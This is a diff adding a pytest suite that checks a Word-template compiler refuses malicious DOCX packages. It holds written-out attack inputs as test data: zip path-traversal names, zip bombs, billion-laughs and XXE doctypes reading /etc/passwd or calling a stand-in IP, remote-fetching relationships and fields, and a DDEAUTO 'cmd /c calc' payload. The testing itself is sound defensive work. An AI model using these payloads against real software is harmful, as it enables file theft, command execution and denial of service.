@@ -1,0 +1,192 @@
+"""Zip and XML made to do harm, in templates and in documents that come back."""
+
+from __future__ import annotations
+
+import io
+import struct
+import subprocess
+import sys
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from dlr_docs.errors import TemplateError
+from dlr_docs.model.library import Library
+from dlr_docs.output import is_untouched
+from dlr_docs.package import PROVENANCE_PART
+from dlr_docs.word.template import compile_template
+from tests import ooxml
+from tests.fuzzing import TEMPLATE
+from tests.samples import agreement, docx_of
+
+Pairs = list[tuple[str, bytes]]
+
+
+def zipped(members: Pairs, method: int = zipfile.ZIP_DEFLATED) -> bytes:
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, "w", method) as package:
+        for name, content in members:
+            info = zipfile.ZipInfo(name)
+            info.filename = name  # ZipInfo would make a backslash into a slash
+            package.writestr(info, content, method)
+    return made.getvalue()
+
+
+@pytest.fixture(scope="module")
+def members() -> Pairs:
+    return list(ooxml.parts(TEMPLATE.read_bytes()).items())
+
+
+@pytest.fixture(scope="module")
+def returned(library: Library) -> Pairs:
+    return list(ooxml.parts(docx_of(agreement(), library)).items())
+
+
+def refused(data: bytes) -> str:
+    with pytest.raises(TemplateError) as caught:
+        compile_template(data, "eigen.docx")
+    return str(caught.value)
+
+
+def untouched(data: bytes, folder: Path) -> bool:
+    path = folder / "a.docx"
+    path.write_bytes(data)
+    return is_untouched(path)
+
+
+def test_the_parts_in_another_zip_are_taken(members: Pairs, returned: Pairs, tmp_path: Path) -> None:
+    assert compile_template(zipped(members), "eigen.docx")
+    assert untouched(zipped(returned), tmp_path)
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "word/document.xml", "WORD/Document.xml", "../word/buiten.xml", "word/../../buiten.xml", "/etc/buiten.xml",
+        "word/./x.xml", "..", "C:\\buiten.xml", "C:/buiten.xml", "..\\buiten.xml", "word\\x.xml", "word/\u00e9.xml",
+        "word/a\tb.xml", "word/a\nb.xml", "word/a:b.xml",
+    ],
+)  # fmt: skip
+@pytest.mark.filterwarnings("ignore:Duplicate name")
+def test_a_part_twice_or_outside_the_package_is_refused(
+    members: Pairs, returned: Pairs, tmp_path: Path, name: str
+) -> None:
+    assert "geen-sjabloon" in refused(zipped([*members, (name, b"<a/>")]))
+    assert not untouched(zipped([*returned, (name, b"<a/>")]), tmp_path)
+
+
+@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
+def test_a_way_of_packing_without_bounds_is_refused(members: Pairs, method: int) -> None:
+    assert "geen-sjabloon" in refused(zipped(members, method))
+
+
+def test_a_part_that_unpacks_to_more_than_the_package_says_is_refused(members: Pairs) -> None:
+    data = bytearray(zipped([*members, ("word/media/a.bin", bytes(5_000_000))]))
+    for sign, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
+        start = data.rindex(sign)
+        data[start + offset : start + offset + 4] = struct.pack("<I", 100)
+    assert "geen-sjabloon" in refused(bytes(data))
+
+
+@pytest.mark.belasting
+@pytest.mark.parametrize(
+    ("count", "size"), [(1, 101_000_000), (60, 2_000_000), (6_000, 1)], ids=["one", "many", "very-many"]
+)
+def test_a_package_that_is_absurdly_large_is_refused(members: Pairs, count: int, size: int) -> None:
+    parts = [(f"word/media/{number}.bin", bytes(size)) for number in range(count)]
+    assert "sjabloon-te-groot" in refused(zipped([*members, *parts]))
+
+
+@pytest.mark.belasting
+def test_a_bomb_in_a_returned_document_is_not_unpacked(tmp_path: Path) -> None:
+    path = tmp_path / "a.docx"
+    path.write_bytes(zipped([(PROVENANCE_PART, bytes(400_000_000))]))
+    code = (
+        "import resource, sys; from pathlib import Path; from dlr_docs.output import is_untouched\n"
+        "resource.setrlimit(resource.RLIMIT_AS, (300_000_000, 300_000_000))\n"
+        f"sys.exit(is_untouched(Path({str(path)!r})))"
+    )
+    if sys.platform == "win32":
+        pytest.skip("needs limits on memory, which Windows does not offer to Python")
+    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=False)
+    assert (done.returncode, done.stderr) == (0, "")
+
+
+BILLION = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
+DOCTYPES = {
+    "expansion": f'<!DOCTYPE x [<!ENTITY a0 "a">{BILLION}]>',
+    "file": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
+    "network": '<!DOCTYPE x [<!ENTITY a SYSTEM "http://192.0.2.1/x">]>',
+    "parameter": '<!DOCTYPE x [<!ENTITY % a SYSTEM "file:///etc/passwd"> %a;]>',
+    "external": '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
+    "public": '<!DOCTYPE x PUBLIC "x" "http://192.0.2.1/x">',
+}
+
+
+@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", "word/settings.xml", "[Content_Types].xml"])
+@pytest.mark.parametrize("doctype", DOCTYPES.values(), ids=DOCTYPES.keys())
+def test_entities_of_any_sort_in_any_part_are_refused(members: Pairs, part: str, doctype: str) -> None:
+    def changed(content: bytes) -> bytes:
+        head, sign, rest = content.decode().partition("?>")
+        return f"{head}{sign}{doctype}{rest}".encode()
+
+    made = zipped([(name, changed(content) if name == part else content) for name, content in members])
+    assert "sjabloon-dtd" in refused(made)
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-7", "latin-1", "ebcdic-cp-us"])
+def test_another_encoding_hides_nothing(members: Pairs, encoding: str) -> None:
+    text = f'<?xml version="1.0" encoding="{encoding}"?>{DOCTYPES["file"]}<x>&a;</x>'
+    content = text.encode(encoding) if encoding in ("utf-16", "latin-1") else text.encode()
+    made = zipped([(name, content if name == "word/settings.xml" else old) for name, old in members])
+    assert refused(made)
+
+
+def test_very_deep_xml_is_refused(members: Pairs) -> None:
+    deep = b"<a>" * 100_000 + b"</a>" * 100_000
+    made = zipped([(name, deep if name == "word/settings.xml" else content) for name, content in members])
+    assert "sjabloon-kapot" in refused(made)
+
+
+Change = Callable[[str], str]
+RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def relation(kind: str, target: str) -> Change:
+    made = f'<Relationship Id="rIdX" Type="{RELATION}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
+    return lambda text: text.replace("</Relationships>", made)
+
+
+def field(code: str) -> Change:
+    return lambda text: text.replace("<w:body>", f"<w:body><w:p>{code}</w:p>", 1)
+
+
+@pytest.mark.parametrize(
+    ("part", "change"),
+    [
+        ("word/_rels/document.xml.rels", relation("image", "http://192.0.2.1/a.png")),
+        ("word/_rels/document.xml.rels", relation("image", "file:///etc/passwd")),
+        ("word/_rels/document.xml.rels", relation("attachedTemplate", "http://192.0.2.1/a.dotm")),
+        ("word/_rels/document.xml.rels", relation("oleObject", "file:///a.xls")),
+        ("word/_rels/document.xml.rels", relation("frame", "http://192.0.2.1/")),
+        ("word/_rels/document.xml.rels", relation("subDocument", "file:///a.docx")),
+        ("word/document.xml", field('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://192.0.2.1/a&quot; "/>')),
+        ("word/document.xml", field("<w:r><w:instrText> DDEAUTO cmd /c calc </w:instrText></w:r>")),
+        (
+            "word/document.xml",
+            field("<w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r>"),
+        ),
+        ("word/document.xml", field("<w:r><w:instrText> includetext a.docx </w:instrText></w:r>")),
+    ],
+)
+def test_a_template_that_fetches_or_starts_something_is_refused(members: Pairs, part: str, change: Change) -> None:
+    made = [(name, change(content.decode()).encode() if name == part else content) for name, content in members]
+    assert made != members
+    assert "eigen.docx: fout" in refused(zipped(made))
+
+
+@pytest.mark.parametrize("name", ["word/vbaProject.bin", "word/activeX/activeX1.xml", "word/embeddings/oleObject1.bin"])
+def test_a_template_with_a_program_in_it_is_refused(members: Pairs, name: str) -> None:
+    assert "eigen.docx: fout" in refused(zipped([*members, (name, b"<a/>")]))
